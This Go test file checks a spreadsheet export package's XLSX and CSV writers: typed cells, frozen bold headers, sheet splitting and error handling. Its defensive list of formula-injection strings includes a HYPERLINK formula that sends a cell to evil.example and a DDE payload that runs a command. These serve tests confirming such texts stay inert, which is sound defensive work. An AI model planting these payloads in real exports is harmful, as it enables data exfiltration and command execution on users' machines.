package sheet_test

import (
	"bytes"
	"encoding/csv"
	"iter"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"nudged/cmd/nudged/sheet"
	"nudged/store/order"
)

func titles() []string { return []string{"Number", "Total", "Placed", "Orders", "Share", "备注"} }

func row(number, note string, minor int64, currency string) []sheet.Cell {
	shanghai := time.FixedZone("CST", 8*3600)
	return []sheet.Cell{
		sheet.OfText(number), sheet.OfMoney(order.Money{Minor: minor, Currency: currency}),
		sheet.OfTime(time.Date(2026, 11, 22, 23, 30, 15, 0, shanghai)), sheet.OfWhole(7), sheet.OfNumber(0.25), sheet.OfText(note),
	}
}

func written(t testing.TB, rows iter.Seq[[]sheet.Cell]) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := sheet.WriteXLSX(&out, "orders", titles(), rows); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func opened(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestCellsAreTyped(t *testing.T) {
	f := opened(t, written(t, slices.Values([][]sheet.Cell{
		row("000123456789012345678", "", 123450, "EUR"), row("2", "", -1500, "JPY"), {sheet.OfText("3")},
	})))
	for cell, want := range map[string]struct {
		shown string
		kind  excelize.CellType
	}{
		"A2": {"000123456789012345678", excelize.CellTypeInlineString},
		"B2": {"1,234.50 EUR", excelize.CellTypeUnset},
		"B3": {"-1,500 JPY", excelize.CellTypeUnset},
		"C2": {"2026-11-22 23:30", excelize.CellTypeUnset},
		"D2": {"7", excelize.CellTypeUnset},
		"E2": {"0.25", excelize.CellTypeUnset},
		"B4": {"", excelize.CellTypeUnset},
	} {
		shown, err := f.GetCellValue("orders", cell)
		if err != nil {
			t.Fatal(err)
		}
		kind, err := f.GetCellType("orders", cell)
		if err != nil {
			t.Fatal(err)
		}
		if shown != want.shown || kind != want.kind {
			t.Errorf("%s shows %q as type %d, want %q as %d", cell, shown, kind, want.shown, want.kind)
		}
	}
	style, err := f.GetCellStyle("orders", "A2")
	if err != nil {
		t.Fatal(err)
	}
	if s, err := f.GetStyle(style); err != nil || s.NumFmt != 49 {
		t.Errorf("a text has the format %+v, %v: edited, it would become a number", s, err)
	}
}

func TestTheHeaderStandsStill(t *testing.T) {
	f := opened(t, written(t, slices.Values([][]sheet.Cell{row("1", "上海市浦东新区世纪大道一百号", 1, "CNY")})))
	panes, err := f.GetPanes("orders")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v, %v", panes, err)
	}
	style, err := f.GetCellStyle("orders", "A1")
	if err != nil {
		t.Fatal(err)
	}
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("the header is not bold: %+v, %v", s, err)
	}
	filters := 0
	for _, n := range f.GetDefinedName() {
		if strings.Contains(n.Name, "FilterDatabase") && n.RefersTo == "'orders'!$A$1:$F$2" {
			filters++
		}
	}
	if filters != 1 {
		t.Errorf("no filter over the table: %+v", f.GetDefinedName())
	}
	wide, err := f.GetColWidth("orders", "F")
	if err != nil || wide < 2*14 || wide > 40 {
		t.Errorf("14 Chinese characters get a column of %v, %v", wide, err)
	}
}

// dangerous are texts that a spreadsheet computes if it is let.
func dangerous() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|'/c calc'!A1", "＝1+1", "＋1", "－1", "＠SUM(1)",
		"+8613800138000", "-", "'=1+1",
	}
}

func TestNoTextBecomesAFormula(t *testing.T) {
	var rows [][]sheet.Cell
	for _, s := range dangerous() {
		rows = append(rows, []sheet.Cell{sheet.OfText(s)})
	}
	one := []string{"=1+1"}
	var out bytes.Buffer
	if err := sheet.WriteXLSX(&out, "x", one, slices.Values(rows)); err != nil {
		t.Fatal(err)
	}
	f := opened(t, out.Bytes())
	for i := range len(rows) + 1 {
		cell := "A" + strconv.Itoa(i+1)
		kind, err := f.GetCellType("x", cell)
		formula, ferr := f.GetCellFormula("x", cell)
		if err != nil || ferr != nil || kind != excelize.CellTypeInlineString || formula != "" {
			t.Errorf("%s: type %d, formula %q, %v, %v", cell, kind, formula, err, ferr)
		}
	}
	out.Reset()
	if err := sheet.WriteCSV(&out, one, slices.Values(rows)); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(rows)+1 {
		t.Fatalf("%d records", len(records))
	}
	for i, r := range records {
		if !strings.HasPrefix(r[0], "'") {
			t.Errorf("record %d begins a formula: %q", i, r[0])
		}
	}
}

func TestWhatIsWrittenIsReadAgain(t *testing.T) {
	texts := append(dangerous(), "王小明", "a,b;c\td", "line one\nline two", `say "hi"`, "_x0041_", "<b>&amp;", "🎁", "0123", "1e5", "TRUE", strings.Repeat("长", 40000), "bad\x00\x01\x1b[31m\xff end")
	var rows [][]sheet.Cell
	for _, s := range texts {
		rows = append(rows, row("n", s, 199, "EUR"))
	}
	var plain bytes.Buffer
	if err := sheet.WriteCSV(&plain, titles(), slices.Values(rows)); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"xlsx": written(t, slices.Values(rows)), "csv": plain.Bytes()} {
		book := reading(t, data)
		if len(book.Sheets) != 1 || len(book.Sheets[0].Rows) != len(texts)+1 {
			t.Fatalf("%s: %d rows", name, len(book.Sheets[0].Rows))
		}
		for i, want := range texts {
			got := book.Sheets[0].Rows[i+1]
			switch want = strings.TrimSpace(want); {
			case len(want) > 40000:
				want = strings.Repeat("长", 32766) + "…"
			case strings.HasPrefix(want, "bad"):
				want = "bad[31m end"
			}
			if v := got.Cell(5); v.Kind != sheet.Text || v.Text != want {
				t.Errorf("%s: %.60q came back as %.60q", name, want, v.Text)
			}
			if v := got.Cell(1); v.Text != "1.99" && v.Text != "1.990" {
				t.Errorf("%s: the amount came back as %+v", name, v)
			}
			if v := got.Cell(2); v.Text != "2026-11-22 23:30:15" {
				t.Errorf("%s: the time came back as %+v", name, v)
			}
			if v := got.Cell(9); v.Kind != sheet.Empty {
				t.Errorf("%s: beyond the last column stands %+v", name, v)
			}
		}
	}
}

func TestALongTableGoesOnOnASecondSheet(t *testing.T) {
	const all = 25
	seq := func(yield func([]sheet.Cell) bool) {
		same := make([]sheet.Cell, 1) // as a caller that makes one row after the other in one place
		for i := range all {
			same[0] = sheet.OfWhole(i)
			if !yield(same) {
				return
			}
		}
	}
	var out bytes.Buffer
	if err := sheet.WriteShort(&out, "a name that is far too long for Excel: really", []string{"N"}, seq, 11); err != nil {
		t.Fatal(err)
	}
	book := reading(t, out.Bytes())
	if len(book.Sheets) != 3 {
		t.Fatalf("%d sheets", len(book.Sheets))
	}
	next := 0
	for _, s := range book.Sheets {
		if len(s.Name) > 31 || s.Rows[0].Cell(0).Text != "N" || len(s.Rows) > 11 {
			t.Errorf("sheet %q begins with %+v and has %d rows", s.Name, s.Rows[0], len(s.Rows))
		}
		for _, r := range s.Rows[1:] {
			if got := r.Cell(0); got.Text != strconv.Itoa(next) {
				t.Fatalf("%+v, want %d", got, next)
			}
			next++
		}
	}
	if next != all {
		t.Errorf("%d rows of %d", next, all)
	}
}

func TestOddValues(t *testing.T) {
	cells := []sheet.Cell{
		sheet.OfNumber(math.NaN()), sheet.OfNumber(math.Inf(1)), sheet.OfMoney(order.Money{Minor: math.MinInt64, Currency: "USD"}),
		sheet.OfWhole(int64(math.MaxInt64)), sheet.OfTime(time.Date(1, 2, 3, 0, 0, 0, 0, time.UTC)), sheet.OfTime(time.Time{}), sheet.OfText(""),
		sheet.OfMoney(order.Money{Minor: 5, Currency: `"x`}),
	}
	cols := slices.Repeat([]string{"c"}, len(cells))
	var out bytes.Buffer
	if err := sheet.WriteXLSX(&out, "", cols, slices.Values([][]sheet.Cell{cells, {}, append(cells, cells...)})); err != nil {
		t.Fatal(err)
	}
	got := reading(t, out.Bytes()).Sheets[0].Rows[1]
	want := []string{"", "", "-92233720368547758.08 USD", "9223372036854775807", "0001-02-03 00:00:00", "", "", "0.05"}
	for i, w := range want {
		if got.Cell(i).Text != w {
			t.Errorf("column %s: %q, want %q", sheet.Letters(i), got.Cell(i).Text, w)
		}
	}
}

// failing takes so many bytes and then none.
type failing struct{ left int }

func (f *failing) Write(p []byte) (int, error) {
	if f.left -= len(p); f.left < 0 {
		return 0, bytes.ErrTooLarge
	}
	return len(p), nil
}

func TestAFullDiskIsSaid(t *testing.T) {
	rows := slices.Repeat([][]sheet.Cell{row("1", "x", 1, "EUR")}, 2000)
	if err := sheet.WriteXLSX(&failing{left: 2000}, "x", titles(), slices.Values(rows)); err == nil {
		t.Error("xlsx: no error")
	}
	if err := sheet.WriteCSV(&failing{left: 2000}, titles(), slices.Values(rows)); err == nil {
		t.Error("csv: no error")
	}
}
